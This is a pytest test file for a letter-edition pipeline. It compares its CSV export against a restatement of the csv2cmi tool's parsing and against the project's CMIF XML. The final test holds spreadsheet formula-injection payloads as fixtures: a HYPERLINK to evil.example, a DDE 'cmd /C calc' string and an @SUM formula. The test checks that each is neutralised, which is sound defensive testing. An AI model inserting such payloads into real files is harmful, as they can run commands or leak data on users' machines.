"""output/letters.csv as csv2cmi reads it: its documented columns, and the letters it would
make of our table compared with the letters of our own CMIF.

csv2cmi (https://github.com/saw-leipzig/csv2cmi, MIT) is not on the package index, so it is
not run here. ``csv2cmi_letters`` below restates, in our words, what its csv2cmi.py
(version 3.0.0-beta: ``__main__``, ``CMI.create_correspondent``, ``create_corresp_action``,
``create_date``, ``create_place_name``) does with a table, as far as the letters' content
goes:
- the file is opened as UTF-8 (a byte order mark stays in the first column's name) and read
  with csv.DictReader; without both a "sender" and an "addressee" column it stops;
- with an "edition" column, a row whose edition is empty is left out (unless --all);
- a "key" starting with http becomes correspDesc/@ref, any other key correspDesc/@key;
- per side (sender → sent, addressee → received) an action is written when the name, the
  place or the date is given; names are split at --extra-delimiter, the ids too, and paired
  by position; an id that is not an http URI but a number (its last two characters aside)
  is completed to https://d-nb.info/gnd/<id>; an id is kept when it is a VIAF, GND or LoC
  URI ("viaf", "gnd", "loc" in it) and dropped otherwise; a name in [brackets] loses them
  and gets evidence="conjecture";
- a place's id is kept as @ref only when it contains "www.geonames.org";
- a date: ?, ~ and % are removed (then cert="low"); trailing X digits are dropped (a year
  with X becomes an interval), and whenever the text changed so, cert="low" follows; [a..b]
  or [a,b] is notBefore/notAfter, {a..b} from/to, a/b from/to, else a W3C date is @when.
Offline (as here) csv2cmi cannot ask GND or VIAF whether an id is a person or an
organisation, so every name is a persName; names are compared without their element.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from pathlib import Path

import pytest
from lxml import etree

from conftest import make_edition
from pipeline import settings as settings_mod
from pipeline import tabular, transform
from pipeline.edition import generate

HERE = Path(__file__).resolve().parent
TABLE = HERE / "data" / "csv2cmi-letters.csv"
NS = {"t": "http://www.tei-c.org/ns/1.0"}

# csv2cmi's README (saw-leipzig/csv2cmi, README.md, "Usage"): the columns it reads.
#   "name of the sender: sender", "name of the addressee: addressee", "IDs ...: senderID and
#   addresseeID", "the date, when the letter has been sent: senderDate"; "senderPlace (with the
#   appropriate senderPlaceID as proper GeoNames URL)", "addresseePlace (... addresseePlaceID
#   ...)", "when a letter has been received: addresseeDate"; "an edition column for a
#   bibliographic record, a key column for the corresponding number of the edited letter, and
#   even a note column".
DOCUMENTED = ["sender", "senderID", "senderPlace", "senderPlaceID", "senderDate",
              "addressee", "addresseeID", "addresseePlace", "addresseePlaceID", "addresseeDate",
              "edition", "key", "note"]


class Stops(Exception):
    """csv2cmi exits with an error message."""


def _datable(value: str) -> bool:
    value = value[1:] if value.startswith("-") and len(value) > 4 and value[1].isdigit() else value
    for form in ("%Y-%m-%d", "%Y-%m", "%Y", "--%m-%d", "--%m", "---%d"):
        try:
            datetime.strptime(value, form)
            return True
        except ValueError:
            pass
    return False


def _date(written: str) -> dict[str, str] | None:
    bare = written.translate({ord(c): None for c in "?~%"})
    if not bare:
        return None
    if len(bare) > 4 and bare.endswith("X"):
        bare = bare[:-3]
        if bare.endswith("X"):
            bare = bare[:-3]
    if bare.endswith("X"):
        bare = bare.replace("X", "0") + "/" + bare.replace("X", "9")
    attributes: dict[str, str] = {}
    if bare[:1] in "[{" and bare[-1:] in "]}":
        members = bare[1:-1].split(",")
        first, last = members[0].split(".")[0], members[-1].split(".")[-1]
        start, end = ("notBefore", "notAfter") if bare[0] == "[" else ("from", "to")
    elif bare.count("/") == 1:
        first, last = bare.split("/")
        start, end = "from", "to"
    else:
        first, last, start, end = bare, "", "when", ""
    if _datable(first):
        attributes[start] = first
    if end and _datable(last):
        attributes[end] = last
    if not attributes:
        return None  # csv2cmi warns "Could not parse" and writes no date
    if bare != written:  # a qualifier, or X digits, were taken away
        attributes["cert"] = "low"
    return attributes


def _names(cell: str, ids_cell: str | None, delimiter: str) -> list[tuple[str, str | None]]:
    names = cell.split(delimiter) if delimiter else [cell]
    ids = (ids_cell.split(delimiter) if delimiter else [ids_cell]) if ids_cell is not None else []
    out = []
    for index, name in enumerate(names):
        name, ref = name.strip(), None
        if index < len(ids) and ids[index]:
            uri = ids[index].strip()
            if not uri.startswith("http") and uri[:-2].isdigit():
                uri = "https://d-nb.info/gnd/" + uri
            ref = uri if any(a in uri for a in ("viaf", "gnd", "loc")) else None
        if name.startswith("[") and name.endswith("]"):
            name = name[1:-1]
        out.append((name, ref))
    return out


def csv2cmi_letters(data: bytes, delimiter: str | None) -> list[dict]:
    """The letters csv2cmi makes of a table, in our comparable form (see the module's doc)."""
    table = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    if not ("sender" in table.fieldnames and "addressee" in table.fieldnames):
        raise Stops("No sender/addressee field in table")
    letters = []
    for row in table:
        if "edition" in table.fieldnames and not row["edition"]:
            continue
        key = row.get("key") or ""
        letter = {"ref": key.strip() if key.startswith("http") else None, "actions": {}}
        for side, kind in (("sender", "sent"), ("addressee", "received")):
            place = row.get(side + "Place") or ""
            date = row.get(side + "Date") or ""
            if not (row[side] or place or date):
                continue
            place_id = (row.get(side + "PlaceID") or "").strip()
            place = place.strip()[1:-1] if place.strip()[:1] == "[" and place.strip()[-1:] == "]" else place.strip()
            letter["actions"][kind] = {
                "names": _names(row[side], row.get(side + "ID"), delimiter) if row[side] else [],
                "places": [(place, place_id if "www.geonames.org" in place_id else None)] if place else [],
                "date": _date(date),
            }
        if letter["actions"]:
            letters.append(letter)
    return letters


def _lc(uri: str | None) -> str | None:
    """One form for a Library of Congress name URI (our CMIF writes lccn.loc.gov)."""
    m = re.match(r"^https?://(?:id\.loc\.gov/authorities/names|lccn\.loc\.gov)/(\w+)", uri or "")
    return f"LC:{m.group(1)}" if m else uri


def cmif_letters(path: Path) -> list[dict]:
    """Our CMIF in the same form; an action that only says "Unknown" is an action not written."""
    letters = []
    for desc in etree.parse(str(path)).iterfind(".//t:correspDesc", NS):
        actions = {}
        for action in desc.iterfind("t:correspAction", NS):
            names = [(n.text, n.get("ref")) for n in action if etree.QName(n).localname in ("persName", "orgName")]
            places = [(p.text, p.get("ref")) for p in action.iterfind("t:placeName", NS)]
            date = action.find("t:date", NS)
            if names == [("Unknown", None)] and not places and date is None:
                continue
            actions[action.get("type")] = {"names": names, "places": places,
                                           "date": dict(date.attrib) if date is not None else None}
        letters.append({"ref": desc.get("ref"), "actions": actions})
    return letters


def comparable(letters: list[dict], with_ref: bool = True) -> list[dict]:
    out = []
    for letter in letters:
        actions = {kind: {**a, "names": [(n, _lc(r)) for n, r in a["names"]]} for kind, a in letter["actions"].items()}
        out.append({"ref": letter["ref"] if with_ref else None, "actions": actions})
    return out


def outputs(root: Path) -> tuple[bytes, Path]:
    generate(settings_mod.load(root))
    params = settings_mod.load(root).params()
    csv_path = transform.csv(root / "tei", root / "output" / "letters.csv", params)
    return csv_path.read_bytes(), transform.cmif(root / "tei", root / "output" / "cmif.xml", params)


# ------------------------------------------------------------------------------------------

def test_columns_are_csv2cmi_s_documented_ones_first(sample_tei):
    data, _ = outputs(sample_tei)
    header = next(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert header[:13] == DOCUMENTED
    assert list(tabular.CSV2CMI_COLUMNS) == DOCUMENTED
    assert not set(header[13:]) & set(DOCUMENTED)  # corresp's own columns follow, other names


def test_csv2cmi_reads_the_sample_as_the_letters_of_our_cmif(sample_tei):
    data, cmif = outputs(sample_tei)
    theirs = csv2cmi_letters(data, "|")
    ours = cmif_letters(cmif)
    assert len(ours) == 17
    assert comparable(theirs) == comparable(ours)


def test_csv2cmi_reads_a_table_that_went_through_tei_as_our_cmif(tmp_path):
    """A csv2cmi table in raw/ → TEI → letters.csv → (csv2cmi) letters = our CMIF's letters.
    csv2cmi makes a key that is no URL its correspDesc/@key, so refs are not compared here."""
    root = make_edition(tmp_path, {"letters.csv": TABLE.read_text("utf-8")}, authorities=False)
    data, cmif = outputs(root)
    theirs, ours = csv2cmi_letters(data, "|"), cmif_letters(cmif)
    assert len(ours) == 8
    assert comparable(theirs, with_ref=False) == comparable(ours, with_ref=False)
    sent = [letter["actions"]["sent"] for letter in theirs]
    assert ("Moscow", "http://www.geonames.org/524901") in [p for a in sent for p in a["places"]]


def test_a_byte_order_mark_stops_csv2cmi(sample_tei, tmp_path):
    """Why the BOM is off unless asked for: csv2cmi would not find its "sender" column."""
    params = dict(settings_mod.load(sample_tei).params(), csv_bom="yes")
    data = transform.csv(sample_tei / "tei", tmp_path / "bom.csv", params).read_bytes()
    with pytest.raises(Stops):
        csv2cmi_letters(data, "|")


def test_no_cell_of_the_sample_or_the_table_starts_a_formula(sample_tei, tmp_path):
    root = make_edition(tmp_path, {"letters.csv": TABLE.read_text("utf-8")}, authorities=False)
    for data in (outputs(sample_tei)[0], outputs(root)[0]):
        for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


@pytest.mark.parametrize("written, expected", [
    ("1835-04", {"when": "1835-04"}),
    ("1836?", {"when": "1836", "cert": "low"}),
    ("[1835..1836]", {"notBefore": "1835", "notAfter": "1836"}),
    ("[..1836-02]", {"notAfter": "1836-02"}),
    ("1835-03-04/1835-03-10", {"from": "1835-03-04", "to": "1835-03-10"}),
    ("1835/..", {"from": "1835"}),
])
def test_the_csv2cmi_model_reads_edtf_as_the_tool_s_tests_say(written, expected):
    """The model's dates against csv2cmi's own examples (tests/test_cmi_methods.py there)."""
    assert _date(written) == expected


def test_hostile_titles_and_summaries_of_a_text_listing(tmp_path):
    """The issue's case: a listing whose title is a HYPERLINK formula, a summary starting with +."""
    listing = ("January 5, 1950\n\n"
               '=HYPERLINK("http://evil.example/?x","Letter, Anna Weber to Karl Brandt")\n\n'
               "+cmd|' /C calc'!A0 is what the summary says.\n\n"
               "January 6, 1950\n\nLetter, Karl Brandt to Anna Weber\n\n@SUM(1+1) and -1 as well.\n")
    root = make_edition(tmp_path, {"hostile.txt": listing}, authorities=False)
    data, _ = outputs(root)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [r["title"][:11] for r in rows] == ["'=HYPERLINK", "Letter, Kar"]
    assert [r["summary"][:5] for r in rows] == ["'+cmd", "'@SUM"]
    for row in rows:
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    letters = sorted((root / "tei" / "letters").glob("*.xml"))
    texts = ["".join(etree.parse(str(p)).xpath("//t:title[@type='entry']//text()", namespaces=NS)) for p in letters]
    assert '=HYPERLINK("http://evil.example/?x","Letter, Anna Weber to Karl Brandt")' in texts
